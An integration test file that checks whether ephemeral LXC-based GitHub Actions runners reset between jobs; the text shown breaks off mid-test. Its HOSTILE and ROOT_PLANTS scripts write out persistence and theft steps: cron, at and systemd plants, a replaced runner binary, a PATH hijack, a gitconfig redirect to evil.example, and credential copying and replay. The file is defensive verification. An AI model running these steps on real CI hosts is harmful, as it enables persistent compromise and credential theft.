/**
 * Ephemeral runners, for real: the controller (its esbuild bundle, as the
 * node runs it) drives an unprivileged LXC container through a stand-in for
 * Proxmox's pct (test/lxc/pct: each subcommand as pct does it, the volume an
 * overlay on the clean snapshot), gets just-in-time configs from a fake
 * GitHub (test/helpers/fake-github-jit.ts) and hands them in with pct exec.
 * In the container the runner side is the real one (infra/runners/files/ephemeral:
 * cco-jit.path, jit-handoff.sh, jit-runner.sh, the actions-runner.service
 * drop-in over the real unit), the runner a STUB that takes one job from the
 * fake's queue (test/lxc/runner-stub/bin/jit-listener.sh).
 *
 * A hostile job plants everything it can; the next job, in the next life of
 * the same container, looks for all of it. Then ten more lives measure the
 * time from a job's end to the next ready runner. Every probe is listed and
 * counted in the output.
 *
 * What is not real, and why:
 * - pct: no Proxmox here. Rollback is an overlay's upper layer dropped (the
 *   copy-on-write a ZFS or LVM-thin rollback does), not a storage snapshot;
 * - the container has no network: the fake GitHub's broker reaches it as a
 *   bind-mounted Unix socket (egress is the other LXC test's subject);
 * - the runner user and the stub are set up here as provision.sh sets them
 *   up (useradd, unpacked as runner); provision.sh itself, its egress rules
 *   (cco-egress.service is a no-op stand-in) and job hooks are not run.
 *
 * Needs root, lxc (lxc-create with the debian template), debootstrap, uidmap
 * and the overlay filesystem; skipped otherwise, except under CI=true.
 */
import { expect } from "chai";
import { spawn, type ChildProcess } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { bundleController } from "../../../infra/controller/bundle";
import { RUNNER_FILES } from "../../../infra/provisioning";
import { PROJECT_ROOT } from "../../../infra/stackfile";
import { FakeJitGitHub } from "../../helpers/fake-github-jit";
import {
  Container,
  ensureLine,
  IMAGE_PACKAGES,
  LXC_TOOLS,
  must,
  Probes,
  removeLine,
  requireLxc,
  run,
} from "../../helpers/lxc";

const LXC_DIR = join(PROJECT_ROOT, "test", "lxc");
const PCT = join(LXC_DIR, "pct");
const LXCPATH = "/var/tmp/cco-eph-lxc";
const VMID = 8101;
const IDMAP = "root:100000:65536";
const SNAPSHOT = "cco-clean";
const SOCKET_DIR_IN_CT = "/mnt/cco-eph-github";
const RD = "/home/runner/actions-runner";
/** Lives measured for time-to-ready, beside the hostile job and its inspector. */
const TIMED_JOBS = 10;
const TARGET_S = 10;

/** The hostile job: plants everything it can, and reports what it managed (key=value lines). */
const HOSTILE = String.raw`set +e
R=$HOME/actions-runner
rep() { printf '%s=%s\n' "$1" "$2"; }
nohup sleep 4242 > /dev/null 2>&1 < /dev/null &
env -u RUNNER_TRACKING_ID setsid nohup bash -c 'exec -a cco-hostile-orphan sleep 4343' > /dev/null 2>&1 < /dev/null &
sleep 0.3
rep bg-tracked "$(pgrep -u runner -f 'sleep 4242' > /dev/null && echo running)"
rep bg-untracked "$(pgrep -u runner -f cco-hostile-orphan > /dev/null && echo running)"
for f in "$HOME/cco-hostile" "$PWD/cco-hostile" /tmp/cco-hostile /var/tmp/cco-hostile /dev/shm/cco-hostile; do
  echo planted > "$f" && rep "file:$f" planted
done
# crontab and at are setgid: under the runner unit's NoNewPrivileges they may be refused.
if echo '* * * * * touch /tmp/cco-hostile-cron' | crontab - 2> /tmp/cco-err; then rep cron planted; else rep cron "refused: $(head -c 80 /tmp/cco-err)"; fi
if echo 'touch /tmp/cco-hostile-at' | at now + 1 minute 2> /tmp/cco-err; then rep at planted; else rep at "refused: $(head -c 80 /tmp/cco-err)"; fi
mkdir -p ~/.config/systemd/user/default.target.wants &&
  printf '[Service]\nExecStart=/bin/sleep infinity\n' > ~/.config/systemd/user/cco-hostile.service &&
  ln -sf ../cco-hostile.service ~/.config/systemd/user/default.target.wants/ && rep systemd-user planted
echo 'ACTIONS_RUNNER_HOOK_JOB_STARTED=/home/runner/cco-hostile-hook' >> "$R/.env" && rep env planted
printf '#!/bin/sh\necho hostile > /tmp/cco-hostile-listener\n' > "$R/bin/Runner.Listener" && rep listener replaced
mkdir -p ~/.cargo/bin && printf '#!/bin/sh\necho hostile cargo\n' > ~/.cargo/bin/cargo && chmod +x ~/.cargo/bin/cargo &&
  echo 'export PATH="$HOME/.cargo/bin:$PATH"' | tee -a ~/.profile >> ~/.bashrc && rep cargo planted
printf '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n' > ~/.gitconfig && rep gitconfig planted
cp "$R/.credentials" "$R/.credentials_rsaparams" "$R/.runner" /var/tmp/ && cp "$R/.credentials" ~/.cco-stolen-credentials && rep credentials copied
auth="Authorization: Bearer $(jq -r .data.clientId "$R/.credentials"):$(jq -r .d "$R/.credentials_rsaparams")"
sock=$(jq -r .stubSocket "$R/.runner")
rep second-session "$(curl -s -o /dev/null -w '%{http_code}' --unix-socket "$sock" -H "$auth" -X POST http://github.invalid/_broker/sessions)"
env -u RUNNER_TRACKING_ID setsid nohup bash -c "while :; do curl -s -o /dev/null --unix-socket '$sock' -H '$auth' -X POST http://github.invalid/_broker/sessions; sleep 0.3; done" > /dev/null 2>&1 < /dev/null &
rep handoff-file "$(cat /run/cco/jit/config 2>&1 | head -c 80)"
rep runner-copy "$(ls -A /run/cco-jit 2>&1 | head -c 80)"
found=$(for e in /proc/[0-9]*/environ; do tr '\0' '\n' < "$e" 2> /dev/null | grep -m1 '^ACTIONS_RUNNER_INPUT_JITCONFIG='; done | head -n 1 | cut -d= -f2-)
rep jitconfig-in-environ "$([ -n "$found" ] && echo found || echo none)"
if [ -n "$found" ]; then
  mkdir -p /tmp/cco-replay/bin && cp "$R/bin/jit-listener.sh" /tmp/cco-replay/bin/
  ACTIONS_RUNNER_INPUT_JITCONFIG=$found timeout 10 /tmp/cco-replay/bin/jit-listener.sh run
  rep replay-exit $?
  rep replay-log "$(tail -n 1 /tmp/cco-replay/_diag/Runner_jit.log)"
fi
if (mkdir -p /run/cco/jit && echo x > /run/cco/jit/config) 2> /dev/null; then rep plant-handoff written; else rep plant-handoff refused; fi
# Root in the container (the test, standing in for a job that escalated) plants too, while this job waits.
touch /tmp/cco-hostile-ready
for _ in $(seq 150); do [ -e /tmp/cco-root-planted ] && break; sleep 0.1; done
rep root-planted "$([ -e /tmp/cco-root-planted ] && echo yes || echo no)"
exit 0
`;

/** The next job on the same container: looks for everything the hostile one planted. */
const INSPECTOR = String.raw`set +e
R=$HOME/actions-runner
chk() { printf '%s=%s\n' "$1" "$2"; }
chk bg-tracked "$(pgrep -f 'sleep 4242' || echo none)"
chk bg-untracked "$(pgrep -f cco-hostile-orphan || echo none)"
chk bg-credential-loop "$(pgrep -f '_broker/sessions' || echo none)"
for f in "$HOME/cco-hostile" "$PWD/cco-hostile" /tmp/cco-hostile /var/tmp/cco-hostile /dev/shm/cco-hostile; do
  chk "file:$f" "$([ -e "$f" ] && echo present || echo absent)"
done
chk systemd-user "$(ls -A ~/.config/systemd/user 2>&1 | head -c 80)"
chk env "$(sha256sum < "$R/.env" | cut -c1-16)"
chk listener "$(sha256sum < "$R/bin/Runner.Listener" | cut -c1-16)"
chk cargo "$( (bash -lc 'command -v cargo || echo none'; ls -A ~/.cargo 2>&1) | tr '\n' ' ' | head -c 120)"
chk profile "$(sha256sum < ~/.profile | cut -c1-16)"
chk bashrc "$(sha256sum < ~/.bashrc | cut -c1-16)"
chk gitconfig "$([ -e ~/.gitconfig ] && echo present || echo absent)"
chk stolen "$(ls /var/tmp/.credentials /var/tmp/.credentials_rsaparams ~/.cco-stolen-credentials 2> /dev/null | wc -l)"
chk replay "$([ -e /tmp/cco-replay ] && echo present || echo absent)"
chk ran-later "$(ls /tmp/cco-hostile-cron /tmp/cco-hostile-at /tmp/cco-hostile-listener 2> /dev/null | wc -l)"
exit 0
`;

/** What root plants in the hostile life: cron entries (runner's and root's), an at job, an enabled system unit. */
const ROOT_PLANTS = [
  "set -e",
  "echo '* * * * * touch /tmp/cco-root-cron' | crontab -u runner -",
  "echo '* * * * * touch /tmp/cco-root-cron' | crontab -",
  "echo 'touch /tmp/cco-root-at' | at now + 1 minute 2> /dev/null",
  "printf '[Service]\\nExecStart=/bin/sleep infinity\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/cco-hostile-root.service",
  "systemctl enable --quiet cco-hostile-root.service",
  "touch /tmp/cco-root-planted",
].join("\n");

/**
 * Root's look at a later life, for what a job cannot see (the cron and at
 * spools but at's sequence file, system units). Not this script's own line:
 * grep -v, and [s]leep for the greps'.
 */
const ROOT_LOOK = [
  'echo "runner-crontab=$(crontab -l -u runner 2>&1)"',
  'echo "root-crontab=$(crontab -l 2>&1)"',
  'echo "at=$(atq | wc -l)"',
  'echo "spools=$(find /var/spool/cron -type f ! -name .SEQ | wc -l)"',
  "echo \"system-unit=$(ls /etc/systemd/system/cco-hostile-root.service /etc/systemd/system/multi-user.target.wants/cco-hostile-root.service 2>&1 | tr '\\n' ' ')\"",
  "echo \"processes=$(ps -e -o args= | grep -v runner-crontab= | grep -e '[s]leep 4242' -e '[s]leep 4343' -e '[c]co-hostile' -e '[w]hile :; do curl' -e '[/]bin/sleep infinity' | tr '\\n' ' ')\"",
].join("\n");

const parseReport = (text: string | undefined): Map<string, string> =>
  new Map(
    (text ?? "")
      .split("\n")
      .filter((l) => /^[a-z][\w:/.-]*=/.test(l))
      .map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)] as [string, string]),
  );
const median = (xs: number[]) => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length % 2 ? s[(s.length - 1) / 2]! : (s[s.length / 2 - 1]! + s[s.length / 2]!) / 2;
};

describe("runners: ephemeral lives, LXC end-to-end (controller, pct stand-in, JIT configs, a hostile job)", function () {
  this.timeout(20 * 60_000);

  const probes = new Probes("Ephemeral LXC end-to-end probes");
  /** A probe on what a job or root reported under `key`: it holds when the report is exactly `want`. */
  const reported = (g: string, from: Map<string, string>, name: string, key: string, want: string) =>
    probes.add(g, name, want, from.get(key) ?? "", from.get(key) === want);
  const ct = new Container(LXCPATH, String(VMID));
  const addedIdLines: string[] = [];
  let tmp = "";
  let setUp = false;
  let github: FakeJitGitHub | null = null;
  let controller: ChildProcess | null = null;
  let controllerLog = "";
  let pctLog = "";
  const clean = new Map<string, string>();
  const pctEnv = () => ({ ...process.env, CCO_PCT_LXCPATH: LXCPATH });
  const pct = (...args: string[]) => run(PCT, args, { env: pctEnv(), timeoutMs: 120_000 });
  const expectGroup = (group: string) => expect(probes.failed(group), probes.report()).to.deep.equal([]);

  function teardown() {
    if (existsSync(join(LXCPATH, String(VMID)))) {
      run("lxc-stop", ["-P", LXCPATH, "-n", String(VMID), "-k"], { timeoutMs: 60_000 });
      const rootfs = join(LXCPATH, String(VMID), "rootfs");
      if (run("mountpoint", ["-q", rootfs]).status === 0) run("umount", [rootfs]);
    }
    rmSync(LXCPATH, { recursive: true, force: true });
  }

  /** Waits for COND (polled every 200 ms) or fails after MS with WHAT. */
  async function until(what: string, ms: number, cond: () => boolean): Promise<void> {
    const deadline = Date.now() + ms;
    while (!cond()) {
      if (Date.now() > deadline)
        throw new Error(
          `timed out waiting for ${what}; controller log:\n${readFileSync(controllerLog, "utf8").slice(-3000)}`,
        );
      if (controller && controller.exitCode !== null)
        throw new Error(
          `the controller exited ${controller.exitCode} while waiting for ${what}:\n${readFileSync(controllerLog, "utf8").slice(-3000)}`,
        );
      await new Promise((r) => setTimeout(r, 200));
    }
  }

  before(async function () {
    const tools = [...LXC_TOOLS, "tar"];
    const overlay =
      readFileSync("/proc/filesystems", "utf8").includes("overlay") || run("modprobe", ["overlay"]).status === 0;
    requireLxc(this, "ephemeral LXC test", tools, overlay ? "" : "needs the overlay filesystem");
    teardown();
    setUp = true;
    tmp = mkdtempSync(join(tmpdir(), "cco-eph-"));
    chmodSync(tmp, 0o755);
    for (const file of ["/etc/subuid", "/etc/subgid"]) if (ensureLine(file, IDMAP)) addedIdLines.push(file);
    const rootfs = must(join(LXC_DIR, "rootfs.sh"), IMAGE_PACKAGES, { timeoutMs: 15 * 60_000 }).trim();

    // The container as the pct stand-in keeps it: the cached image is the lowest (read-only) layer.
    const dir = join(LXCPATH, String(VMID));
    for (const d of ["upper", "work", "rootfs"]) mkdirSync(join(dir, d), { recursive: true });
    must("chown", ["--reference", rootfs, join(dir, "upper")]);
    must("chmod", ["--reference", rootfs, join(dir, "upper")]);
    writeFileSync(join(dir, "lowers"), `${rootfs}\n`);
    const socketDir = join(tmp, "github");
    mkdirSync(socketDir, { mode: 0o755 });
    writeFileSync(
      join(dir, "config"),
      [
        "lxc.include = /usr/share/lxc/config/debian.common.conf",
        "lxc.include = /usr/share/lxc/config/debian.userns.conf",
        "lxc.idmap = u 0 100000 65536",
        "lxc.idmap = g 0 100000 65536",
        `lxc.rootfs.path = dir:${join(dir, "rootfs")}`,
        "lxc.uts.name = runner-eph",
        "lxc.arch = amd64",
        "lxc.tty.max = 1",
        "lxc.pty.max = 64",
        // No network: the fake GitHub's broker is a Unix socket (see the file comment).
        "lxc.net.0.type = empty",
        `lxc.mount.entry = ${socketDir} ${SOCKET_DIR_IN_CT.slice(1)} none bind,create=dir 0 0`,
        `lxc.apparmor.profile = ${existsSync("/sys/kernel/security/apparmor") ? "generated" : "unconfined"}`,
        `lxc.log.file = ${dir}/lxc.log`,
        "lxc.log.level = NOTICE",
        "",
      ].join("\n"),
    );

    // Provision it once, as provision.sh sets up the runner, then the ephemeral runner side.
    const started = pct("start", String(VMID));
    if (started.status !== 0) throw new Error(`pct start: ${started.stderr}`);
    ct.waitBooted();
    const tarball = join(tmp, "actions-runner.tar.gz");
    must("tar", ["-czf", tarball, "-C", join(LXC_DIR, "runner-stub"), "."]);
    const files = join(tmp, "files.tar.gz");
    must("tar", [
      "-czf",
      files,
      "-C",
      RUNNER_FILES,
      "lib.sh",
      "runner-env.sh",
      "ephemeral",
      "units/actions-runner.service",
    ]);
    ct.must("mkdir -p /root/stage && base64 -d | tar -xz -C /root/stage", {
      input: readFileSync(files).toString("base64"),
    });
    ct.must(
      "base64 -d > /root/stage/actions-runner.tar.gz && chmod 755 /root/stage && chmod 644 /root/stage/actions-runner.tar.gz && chmod 711 /root",
      { input: readFileSync(tarball).toString("base64") },
    );
    ct.must(
      [
        "set -e",
        "useradd --create-home --home-dir /home/runner --shell /bin/bash runner",
        `install -d -m 750 -o runner -g runner ${RD}`,
        `runuser -u runner -- tar -xzf /root/stage/actions-runner.tar.gz -C ${RD}`,
        "install -D -m 644 /root/stage/lib.sh /opt/cco/lib.sh",
        // actions-runner.service writes .env from it before every start (provision.sh installs it so);
        // the snapshot's .env is what it writes
        "install -D -m 755 /root/stage/runner-env.sh /opt/cco/runner-env.sh",
        // (as the unit runs it: the unit's environment, LANG from the system locale as systemd sets it).
        "runuser -u runner -- env -i \"$(grep -m1 '^LANG=' /etc/default/locale 2>/dev/null || echo LANG=C.UTF-8)\"" +
          " ACTIONS_RUNNER_HOOK_JOB_STARTED=/opt/cco/job-started.sh ACTIONS_RUNNER_HOOK_JOB_COMPLETED=/opt/cco/job-completed.sh" +
          ` ACTIONS_RUNNER_RETURN_VERSION_DEPRECATED_EXIT_CODE=1 RUNNER_DIR=${RD} /opt/cco/runner-env.sh`,
        "install -D -m 644 /root/stage/units/actions-runner.service /etc/systemd/system/actions-runner.service",
        // The egress rules are the other LXC test's: a no-op unit of the same name (actions-runner.service requires it).
        "printf '[Unit]\\nDescription=stand-in\\n[Service]\\nType=oneshot\\nRemainAfterExit=yes\\nExecStart=/bin/true\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/cco-egress.service",
        "systemctl daemon-reload && systemctl enable --quiet cco-egress.service actions-runner.service",
        "bash /root/stage/ephemeral/install.sh",
        "rm -rf /root/stage && chmod 700 /root",
      ].join("\n"),
      { timeoutMs: 120_000 },
    );
    for (const [k, path] of [
      ["env", `${RD}/.env`],
      ["listener", `${RD}/bin/Runner.Listener`],
      ["profile", "/home/runner/.profile"],
      ["bashrc", "/home/runner/.bashrc"],
    ]) {
      clean.set(k!, ct.must(`sha256sum < ${path} | cut -c1-16`).trim());
    }
    const r = ct.exec("systemctl is-enabled actions-runner.service cco-jit.path; ls -A " + RD);
    writeFileSync(join(tmp, "clean-state.txt"), r.stdout + r.stderr);
    // A clean snapshot of a stopped container: nothing running, nothing in /run.
    ct.must("systemctl poweroff", { timeoutMs: 30_000 });
    const deadline = Date.now() + 60_000;
    while (pct("status", String(VMID)).stdout.trim() !== "status: stopped" && Date.now() < deadline)
      run("sleep", ["0.2"]);
    const snap = pct("snapshot", String(VMID), SNAPSHOT);
    if (snap.status !== 0) throw new Error(`pct snapshot: ${snap.stderr}`);

    // The fake GitHub, its queue: the hostile job, its inspector, then the timed ones.
    github = new FakeJitGitHub(join(socketDir, "github.sock"), `${SOCKET_DIR_IN_CT}/github.sock`);
    await github.start();
    github.enqueue({ repo: "brentley/cco", job: "hostile", script: HOSTILE, labels: ["self-hosted", "cco"] });
    github.enqueue({ repo: "brentley/cco", job: "inspector", script: INSPECTOR, labels: ["self-hosted"] });
    for (let i = 1; i <= TIMED_JOBS; i++)
      github.enqueue({ repo: "brentley/cco", job: `timed-${i}`, script: "echo ok", labels: ["self-hosted"] });

    // The controller, bundled as it is deployed, with its secret in a credentials directory.
    const bundle = bundleController(join(tmp, "controller.js"));
    const secrets = join(tmp, "secrets");
    mkdirSync(secrets, { mode: 0o700 });
    writeFileSync(join(secrets, "github-token"), github.token, { mode: 0o600 });
    const config = join(tmp, "controller.json");
    writeFileSync(
      config,
      JSON.stringify({
        repo: github.repo,
        apiUrl: github.url,
        labels: ["self-hosted", "cco"],
        snapshot: SNAPSHOT,
        runners: [{ vmid: VMID, name: "runner-eph" }],
        pct: PCT,
        stateDir: join(tmp, "state"),
        metricsPort: 0,
      }),
    );
    controllerLog = join(tmp, "controller.log");
    pctLog = join(tmp, "pct.log");
    writeFileSync(pctLog, "");
    controller = spawn(process.execPath, [bundle.path], {
      env: { ...pctEnv(), CCO_CONTROLLER_CONFIG: config, CCO_CONTROLLER_SECRETS_DIR: secrets, CCO_PCT_LOG: pctLog },
      stdio: ["ignore", "pipe", "pipe"],
    });
    const out = (d: Buffer) => writeFileSync(controllerLog, d, { flag: "a" });
    controller.stdout!.on("data", out);
    controller.stderr!.on("data", out);
  });

  after(async function () {
    if (probes.all.length > 0) console.log(probes.report());
    if (!setUp) return;
    if (controller && controller.exitCode === null) controller.kill("SIGKILL");
    await github?.stop();
    if (process.env.CCO_E2E_KEEP) {
      console.log(`      CCO_E2E_KEEP: container ${VMID} in ${LXCPATH}, logs in ${tmp}`);
      return;
    }
    teardown();
    for (const file of addedIdLines) removeLine(file, IDMAP);
    rmSync(tmp, { recursive: true, force: true });
  });

  it("the clean snapshot holds no registration, and the runner starts only from a handed-in config", function () {
    const g = "clean snapshot";
    const state = readFileSync(join(tmp, "clean-state.txt"), "utf8").split("\n");
    probes.add(
      g,
      "actions-runner.service not started at boot; cco-jit.path is",
      "disabled, enabled",
      state.slice(0, 2).join(", "),
      state[0] === "disabled" && state[1] === "enabled",
    );
    const listing = state.slice(2).join(" ");
    probes.add(
      g,
      "no .runner or credentials in the runner's directory",
      "none",
      listing,
      !/\.runner|\.credentials/.test(listing),
    );
    const lowers = readFileSync(join(LXCPATH, String(VMID), "lowers"), "utf8").trim();
    probes.add(
      g,
      "pct snapshot took the stopped container's changes as a layer",
      `${SNAPSHOT}/layer on the image`,
      lowers,
      lowers.startsWith(join(LXCPATH, String(VMID), "snaps", SNAPSHOT, "layer") + ":"),
    );
    expectGroup(g);
  });

  it("each job gets a fresh life: a hostile job leaves nothing for the next one", async function () {
    const gh = github!;
    // While the hostile job waits, root in the container plants what a job cannot (crontab and at
    // are setgid, refused under the runner unit's NoNewPrivileges): the reset must take those too.
    await until(
      "the hostile job to wait for root's plants",
      3 * 60_000,
      () => ct.exec("test -e /tmp/cco-hostile-ready").status === 0,
    );
    ct.must(ROOT_PLANTS);
    await until("the hostile job and its inspector", 5 * 60_000, () =>
      gh.jobs.slice(0, 2).every((j) => j.completedAt !== undefined),
    );
    const hostile = gh.jobs[0]!;
    const inspector = gh.jobs[1]!;
    const h = parseReport(hostile.output);
    const i = parseReport(inspector.output);
    writeFileSync(join(tmp, "hostile.out"), `${hostile.output}\n---\n${inspector.output}`);

    let g = "the hostile job (life 1) really planted it";
    for (const k of ["cron", "at"]) {
      probes.add(
        g,
        `${k} (tried)`,
        "planted, or refused (setgid under NoNewPrivileges)",
        h.get(k) ?? "(not reported)",
        /^(planted|refused: .+)$/.test(h.get(k) ?? ""),
      );
    }
    for (const [k, expected] of [
      ["bg-tracked", "running"],
      ["bg-untracked", "running"],
      ["systemd-user", "planted"],
      ["env", "planted"],
      ["listener", "replaced"],
      ["cargo", "planted"],
      ["gitconfig", "planted"],
      ["credentials", "copied"],
    ] as const) {
      probes.add(g, k, expected, h.get(k) ?? "(not reported)", h.get(k) === expected);
    }
    const planted = [...h.entries()].filter(([k]) => k.startsWith("file:"));
    probes.add(
      g,
      "files in home, work dir, /tmp, /var/tmp, /dev/shm",
      "5 planted",
      planted.map(([k, v]) => `${k.slice(5)} ${v}`).join(", "),
      planted.length === 5 && planted.every(([, v]) => v === "planted"),
    );
    expectGroup(g);

    g = "what the hostile job could not do";
    probes.add(
      g,
      "a second listener session with the copied credential, during the job",
      "409 (a session exists)",
      h.get("second-session") ?? "",
      h.get("second-session") === "409",
    );
    probes.add(
      g,
      "read the host's hand-off file /run/cco/jit/config",
      "denied or gone",
      h.get("handoff-file") ?? "",
      /Permission denied|No such file/.test(h.get("handoff-file") ?? ""),
    );
    probes.add(
      g,
      "read the runner's copy in /run/cco-jit",
      "empty (removed before the runner started)",
      h.get("runner-copy") || "(empty)",
      (h.get("runner-copy") ?? "") === "",
    );
    const inEnv = h.get("jitconfig-in-environ");
    probes.add(
      g,
      "the JIT config in the listener's /proc/<pid>/environ (same uid as the job)",
      "found: a limit, as with the real runner",
      inEnv ?? "",
      inEnv === "found",
    );
    probes.add(
      g,
      "that JIT config, replayed by a second listener",
      "refused: session 409, exit 1",
      `exit ${h.get("replay-exit")}; ${h.get("replay-log")}`,
      h.get("replay-exit") === "1" && (h.get("replay-log") ?? "").includes("409"),
    );
    reported(g, h, "plant a config for the next life in /run/cco/jit", "plant-handoff", "refused");
    reported(g, h, "(root in the container planted cron, at and a system unit while it waited)", "root-planted", "yes");
    expectGroup(g);

    g = "the next job on the same container (life 2) finds none of it";
    const absent = (k: string, name: string) =>
      probes.add(g, name, "absent", i.get(k) ?? "(not reported)", i.get(k) === "absent");
    reported(g, i, "background process (RUNNER_TRACKING_ID set)", "bg-tracked", "none");
    reported(g, i, "background process (RUNNER_TRACKING_ID unset, own session)", "bg-untracked", "none");
    reported(g, i, "the loop retrying the copied credential", "bg-credential-loop", "none");
    const files = [...i.keys()].filter((k) => k.startsWith("file:"));
    for (const k of files) absent(k, `file ${k.slice(5)}`);
    probes.add(
      g,
      "files checked: home, work dir, /tmp, /var/tmp, /dev/shm",
      "5",
      String(files.length),
      files.length === 5,
    );
    probes.add(
      g,
      "systemd --user unit",
      "no ~/.config/systemd/user",
      i.get("systemd-user") ?? "",
      (i.get("systemd-user") ?? "").includes("No such file"),
    );
    for (const k of ["env", "listener", "profile", "bashrc"]) {
      const name = {
        env: "the runner's .env",
        listener: "the runner binary bin/Runner.Listener",
        profile: "~/.profile",
        bashrc: "~/.bashrc",
      }[k]!;
      probes.add(g, `${name} as in the snapshot (sha256)`, clean.get(k)!, i.get(k) ?? "", i.get(k) === clean.get(k));
    }
    probes.add(
      g,
      "~/.cargo/bin/cargo on a login shell's PATH",
      "none, no ~/.cargo",
      i.get("cargo") ?? "",
      (i.get("cargo") ?? "").startsWith("none") && (i.get("cargo") ?? "").includes("No such file"),
    );
    absent("gitconfig", "~/.gitconfig");
    probes.add(g, "copies of the credential (/var/tmp, home)", "0", i.get("stolen") ?? "", i.get("stolen") === "0");
    absent("replay", "the replay listener's directory in /tmp");
    probes.add(
      g,
      "nothing planted ran later (cron, at, the replaced listener)",
      "0 marks",
      i.get("ran-later") ?? "",
      i.get("ran-later") === "0",
    );
    expectGroup(g);

    g = "the copied credential gets no other job";
    const r1 = gh.runners.get(hostile.runnerId!)!;
    const r2 = gh.runners.get(inspector.runnerId!)!;
    probes.add(
      g,
      "the two jobs ran on two different JIT runners",
      "different ids and names",
      `${r1.id} ${r1.name} / ${r2.id} ${r2.name}`,
      r1.id !== r2.id && r1.name !== r2.name,
    );
    const mine = gh.brokerCalls.filter((c) => c.runnerId === r1.id);
    const granted = mine.filter((c) => c.what === "session" && c.status === 201).length;
    const refused = mine.filter((c) => c.what === "session" && c.status !== 201);
    probes.add(g, "sessions granted to the hostile life's credential", "exactly 1", String(granted), granted === 1);
    probes.add(
      g,
      "its other session attempts (copy, replay, escaped loop)",
      ">= 2, all refused (409, then 401)",
      `${refused.length}: ${[...new Set(refused.map((c) => c.status))].join(",")}`,
      refused.length >= 2 && refused.every((c) => c.status === 409 || c.status === 401),
    );
    const taken = gh.jobs.filter((j) => j.runnerId === r1.id).map((j) => j.job);
    probes.add(g, "jobs its credential took", "only the hostile one", taken.join(","), taken.join(",") === "hostile");
    // As an attacker who took the credential outside would: after the job, it is worthless.
    // (Asynchronously: the fake GitHub answers from this process.)
    const replay = await new Promise<string>((resolve) => {
      const req = request(
        {
          socketPath: gh.socketPath,
          method: "POST",
          path: "/_broker/sessions",
          headers: { Authorization: `Bearer ${r1.clientId}:${r1.secret}` },
        },
        (res) => resolve(String(res.statusCode)),
      );
      req.on("error", (err) => resolve(err.message));
      req.end();
    });
    probes.add(
      g,
      "the credential used from outside after its job",
      "401 (GitHub removed the runner)",
      replay,
      replay === "401",
    );
    expectGroup(g);
  });

  it(`every life gets a runner ready again within ${TARGET_S} s (median, at least 10 lives)`, async function () {
    const gh = github!;
    await until("every job", 8 * 60_000, () => gh.jobs.every((j) => j.completedAt !== undefined));
    await until("the next ready runner (idle)", 60_000, () =>
      gh.listed().some((r) => r.sessionAt !== undefined && r.jobId === undefined),
    );
    const g = "lives and time to ready";
    const byAge = [...gh.runners.values()].sort((a, b) => a.createdAt - b.createdAt);
    const results = gh.jobs.map((j) => `${j.job}:${j.result}`);
    probes.add(
      g,
      `${gh.jobs.length} jobs, each completed`,
      "all succeeded",
      results.join(" "),
      gh.jobs.every((j) => j.result === "succeeded"),
    );
    const runnersOfJobs = new Set(gh.jobs.map((j) => j.runnerId));
    probes.add(
      g,
      "one JIT runner per job (none took two)",
      `${gh.jobs.length} runners`,
      String(runnersOfJobs.size),
      runnersOfJobs.size === gh.jobs.length,
    );
    const names = new Set(byAge.map((r) => r.name));
    probes.add(
      g,
      "every life's runner name is new",
      `${byAge.length} names`,
      String(names.size),
      names.size === byAge.length,
    );
    const done = byAge.filter((r) => r.jobId !== undefined);
    probes.add(
      g,
      "each runner that ran its job is gone from GitHub",
      "removed at completion",
      done.map((r) => r.removedBy).join(","),
      done.every((r) => r.removedBy === "completion"),
    );
    const intervals: number[] = [];
    for (let k = 0; k + 1 < byAge.length; k++) {
      const end = byAge[k]!.completedAt;
      const ready = byAge[k + 1]!.sessionAt;
      if (end !== undefined && ready !== undefined) intervals.push((ready - end) / 1000);
    }
    const med = median(intervals);
    const worst = Math.max(...intervals);
    console.log(
      `      time from a job's end to the next ready runner: median ${med.toFixed(2)} s, worst ${worst.toFixed(2)} s, best ${Math.min(...intervals).toFixed(2)} s, n=${intervals.length}` +
        ` (${intervals.map((x) => x.toFixed(1)).join(" ")})`,
    );
    probes.add(g, "lives measured", ">= 10", String(intervals.length), intervals.length >= 10);
    probes.add(
      g,
      "time from a job's end to the next ready runner, median",
      `< ${TARGET_S} s`,
      `${med.toFixed(2)} s (worst ${worst.toFixed(2)} s)`,
      med < TARGET_S,
    );
    const lines = readFileSync(controllerLog, "utf8")
      .split("\n")
      .filter(Boolean)
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const ended = lines.filter((l) => l.msg === "life ended");
    probes.add(
      g,
      "the controller logged every life (runner, job, start, end, reset time)",
      `${gh.jobs.length} lives ended`,
      `${ended.length}; e.g. ${JSON.stringify(ended[0] ?? {}).slice(0, 120)}`,
      ended.length === gh.jobs.length &&
        ended.every((l) => l.lifeRunner && l.job && l.start && l.end && typeof l.resetSeconds === "number"),
    );
    const failed = lines.filter((l) => l.level === "error");
    probes.add(
      g,
      "no life failed",
      "0 errors",
      failed.map((l) => `${String(l.stage)}: ${String(l.error)}`).join(" | ") || "0",
      failed.length === 0,
    );
    const pctCalls = readFileSync(pctLog, "utf8");
    const encoded = [...gh.runners.values()].map((r) => r.secret);
    probes.add(
      g,
      "no JIT config or credential on any pct command line",
      "none in the pct log",
      encoded.some((s) => pctCalls.includes(s)) ? "FOUND" : "none",
      !encoded.some((s) => pctCalls.includes(s)) && !/jitconfig|[A-Za-z0-9+/]{200}/.test(pctCalls),
    );
    expectGroup(g);
  });

  it("root's view of a later life: no cron entry, at job, system unit or process of the hostile life", function () {
    const g = "a later life, as root sees it";
    const look = parseReport(ct.must(ROOT_LOOK));
    reported(g, look, "runner's crontab (crontab -l -u runner)", "runner-crontab", "no crontab for runner");
    reported(g, look, "root's crontab", "root-crontab", "no crontab for root");
    probes.add(g, "at jobs (atq)", "0", look.get("at") ?? "", look.get("at") === "0");
    reported(g, look, "files in /var/spool/cron (crontabs, atjobs; not at's .SEQ)", "spools", "0");
    probes.add(
      g,
      "the system unit root enabled",
      "no such file (both)",
      look.get("system-unit") ?? "",
      (look.get("system-unit")?.match(/No such file/g) ?? []).length === 2,
    );
    probes.add(
      g,
      "processes of the hostile life (sleeps, the credential loop, the unit's)",
      "none",
